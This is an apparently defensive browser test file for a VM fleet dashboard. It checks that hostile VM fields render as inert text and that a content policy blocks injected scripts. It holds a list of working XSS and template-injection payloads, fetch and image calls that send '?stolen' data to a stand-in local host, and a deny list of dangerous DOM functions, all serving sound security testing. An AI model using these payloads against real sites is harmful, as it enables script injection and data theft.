# SPDX-License-Identifier: Apache-2.0
"""VMs that say harmful things of themselves: the page shows them as text, and stays what it is."""

from __future__ import annotations

from fake_admin import FakeAdmin
from fake_fleet import TYPES, refused, stamp, vm
from page import Page

VMS = 5
MARKUP = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "\"><svg onload=window.pwned=1>",
    "' onmouseover='window.pwned = 1",
    "</td></tr></table><iframe srcdoc='<script>parent.pwned=1</script>'>",
    "</script><script>window.pwned = 1</script>",
    "<!--", "]]>", "&lt;b&gt;&#60;",
    "javascript:window.pwned=1", "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}", "`;window.pwned=1;//",
    "__proto__", "constructor", "hasOwnProperty", "toString",
]
UNSAFE = {
    "controls": ("a\0b\x1b[31mc\r\nd\x7fe\x85f", "a�b�[31mc��d�e�f"),
    "direction": ("\u202egpj.exe\u2066\u2069\u200f\u061c", "�gpj.exe����"),
    "lines": ("a\u2028b\u2029c\ufeffd", "a�b�c�d"),
    "half a character": ("a\ud800b\udc00c", "a�b�c"),
    "whole characters": ("naïve 東京 עברית 😀", "naïve 東京 עברית 😀"),
}
HUGE = "A" * 20_000
ZALGO = "Z" + "\u0300\u0321\u0489" * 60

SHAPE = """
return {
    pwned: window.pwned ?? null,
    elements: [...new Set([...document.querySelectorAll("*")].map((e) => e.localName))].filter(
        (name) => ["img", "svg", "iframe", "object", "embed", "form", "base", "meta-", "b-"].includes(name)),
    scripts: document.querySelectorAll("script").length,
    handlers: [...document.querySelectorAll("*")].filter((e) => [...e.attributes].some(
        (a) => a.name.startsWith("on"))).length,
    links: [...document.querySelectorAll("a")].filter(
        (a) => !a.getAttribute("href").startsWith("#/")).length,
    prototype: Object.keys(Object.prototype).length,
};
"""
HARMLESS = {"pwned": None, "elements": [], "scripts": 1, "handlers": 0, "links": 0, "prototype": 0}


def hostile(name: str, text: str, at: float, **fields: object) -> dict:
    """A VM that says it wherever it can say anything."""
    return {
        **vm(name, at), "name": text, "namespace": text, "identity": text, "group": text, "network": text,
        "cluster": text, "revision": text, "version": text, "address": text, "peer": text,
        "istiod": text, "endpoint": text, "last_end": text,
        "types": {**dict.fromkeys(TYPES, "SYNCED"), "LDS": "ERROR"}, "nacks": 1,
        "last_nack": {"type": "LDS", "text": text, "at": stamp(at)},
        "refused": refused("address", text, at), "health": "unhealthy", "health_message": text,
        "labels": {text: text}, "events": [{"at": stamp(at), "what": text, "detail": text}],
        **fields}


def only(page: Page, admin: FakeAdmin, *summaries: dict) -> None:
    """These are the fleet from now on."""
    with admin.fleet.lock:
        admin.fleet.vms = {}
        admin.fleet.restarted = True
    for summary in summaries:
        admin.fleet.put(summary)
    page.ask_now()


def row_heights(page: Page) -> set[float]:
    return set(page.js("return [...document.querySelectorAll('#rows tr:not(.space)')].map("
                       "(row) => row.getBoundingClientRect().height)"))


def test_markup__in_every_field_of_the_list__is_text(page: Page, admin: FakeAdmin) -> None:
    at = admin.fleet.now
    only(page, admin, *[hostile(f"h{i}", text, at) for i, text in enumerate(MARKUP)])

    page.wait_equal(lambda: sorted(page.names()), sorted(MARKUP))

    assert page.js(SHAPE) == HARMLESS
    assert row_heights(page) == {28}
    page.js("for (const e of document.querySelectorAll('#rows td')) {"
            "e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})); }")
    assert page.js(SHAPE) == HARMLESS
    page.picture("hostile")


def test_markup__in_every_field_of_one_vm__is_text(page: Page, admin: FakeAdmin) -> None:
    at = admin.fleet.now
    only(page, admin, *[hostile(f"h{i}", text, at) for i, text in enumerate(MARKUP)])
    page.wait_equal(lambda: page.text("shown"), f"{len(MARKUP)} VMs")

    for i, text in enumerate(MARKUP):
        page.go(f"#/vm/{vm(f'h{i}', at)['id']}")
        page.wait(lambda: page.text("vm-name") == text and page.text("vm-body"), "its details")
        assert page.js(SHAPE) == HARMLESS, text
        assert page.js("return document.querySelector('#nack pre').textContent") == text
        assert f"{text}={text}" in page.text("who")
    page.picture("hostile-vm")


def test_markup__as_an_id_and_as_a_type__is_text(page: Page, admin: FakeAdmin) -> None:
    """The daemon's own words, if it were not itself."""
    text = "\"><img src=x onerror=window.pwned=1>"
    only(page, admin, vm("odd", admin.fleet.now, id=text, state=text, health=text,
                   types={text: text, "CDS": text}))
    admin.fleet.upstreams[0]["name"] = admin.fleet.upstreams[0]["unsafe"] = text

    page.wait_equal(page.names, ["odd"])
    assert page.js(SHAPE) == HARMLESS
    page.click("link text", "odd")
    page.wait(lambda: page.text("vm-name") == "odd", "its page")
    page.go("#/istiods")
    page.wait(lambda: text in page.text("upstreams"), "the upstream")

    assert page.js(SHAPE) == HARMLESS
    page.wait_equal(lambda: page.js("return window.pwned ?? null"), None)
    if page.wrong():  # its id is none that the fake finds
        page.leave()


def test_characters__unsafe_ones__replaced(page: Page, admin: FakeAdmin) -> None:
    only(page, admin, *[hostile(kind, said, admin.fleet.now) for kind, (said, _) in UNSAFE.items()])

    page.wait_equal(lambda: sorted(page.names()), sorted(shown for _, shown in UNSAFE.values()))

    for kind, (_, shown) in UNSAFE.items():
        assert page.row(shown)[:4] == [shown] * 4
        page.go(f"#/vm/{vm(kind, 0)['id']}")
        page.wait(lambda: page.text("vm-name") == shown and page.text("vm-body"), "its details")
        assert page.driver.title == f"{shown} – xdsgate"
        assert f"{shown}={shown}" in page.text("who")
        assert page.js("return document.querySelector('#nack pre').textContent") == (
            shown.replace("c��d", "c�\nd"))
        page.go("#/")
        page.wait(page.rows, "the list")


def test_texts__huge_and_towering__bounded(page: Page, admin: FakeAdmin) -> None:
    at = admin.fleet.now
    only(page, admin, hostile("huge", HUGE, at), hostile("zalgo", ZALGO, at), vm("plain.vms", at))
    page.wait_equal(lambda: len(page.rows()), 3)

    for width, row in ((1280, 28), (375, 40)):
        page.resize(width, 800, phone=width < 400)
        page.go("#/")
        page.wait_equal(lambda: row_heights(page), {row})
        assert max(map(len, page.names())) < 300
        for name in ("huge", "zalgo"):
            page.go(f"#/vm/{vm(name, at)['id']}")
            page.wait(lambda: page.text("vm-body"), "its details")
            assert page.js("return document.documentElement.scrollWidth") <= width
            assert page.js("return document.documentElement.scrollHeight") < 6000
            assert page.js("return document.getElementById('vm').textContent.length") < 60_000
        page.picture(f"huge-{width}")


def test_answers__not_as_agreed__said_and_the_page_goes_on(page: Page, admin: FakeAdmin) -> None:
    good = admin.fleet.collect
    for answer in ({}, {"vms": 3, "next": 1}, {"vms": [], "next": "x"}, {"vms": [None], "next": 1}):
        admin.fleet.collect = lambda since, answer=answer: answer
        page.ask_now()
        page.wait(lambda: "cannot be reached" in page.text("fresh"), f"{answer} is refused")
        assert page.text("shown") == "5 VMs"

        admin.fleet.collect = good
        page.ask_now()
        page.wait(lambda: page.text("fresh").startswith("live"), "it is live again")


FORBIDDEN = {
    "a script": "const s = document.createElement('script'); s.append('window.pwned = 1');"
                "document.body.append(s)",
    "markup of a text": "document.body.innerHTML = '<b>x</b>'",
    "eval": "window.eval('window.pwned = 1')",
    "a handler in markup": "document.body.setAttribute('onclick', 'window.pwned = 1')",
    "a style in markup": "document.body.setAttribute('style', 'color: red')",
    "an image": "new Image().src = 'http://127.0.0.1:1/?stolen'",
    "another host": "fetch('http://127.0.0.1:1/?stolen').catch(() => 0)",
    "a form": "const f = document.createElement('form'); f.action = '/x';"
              "document.body.append(f); f.submit()",
    "a frame": "const f = document.createElement('iframe'); f.src = '/api/v1/version';"
               "document.body.append(f)",
}


def test_policy__what_no_script_may_do__is_stopped(page: Page) -> None:
    """Each of these is what a hole in the page would be used for."""
    for what, script in FORBIDDEN.items():
        page.js("setTimeout(() => { try { " + script + " } catch (e) { } })")

        page.wait(lambda: any(each.startswith("policy: ") for each in page.wrong()),
                  f"the policy stops {what}")

        page.wait(lambda: not page.wrong(), "no more of it")
    assert page.js("return window.pwned ?? null") is None


def test_page__one_file__names_no_other(joined: tuple[bytes, str]) -> None:
    html, policy = joined
    text = html.decode()

    for word in ("http:", "https:", "//cdn", " src=", "@import", "url(", "innerHTML", "outerHTML",
                 "insertAdjacent", "document.write", "eval(", "new Function"):
        assert word not in text, word
    assert "unsafe" not in policy and "*" not in policy and "http" not in policy
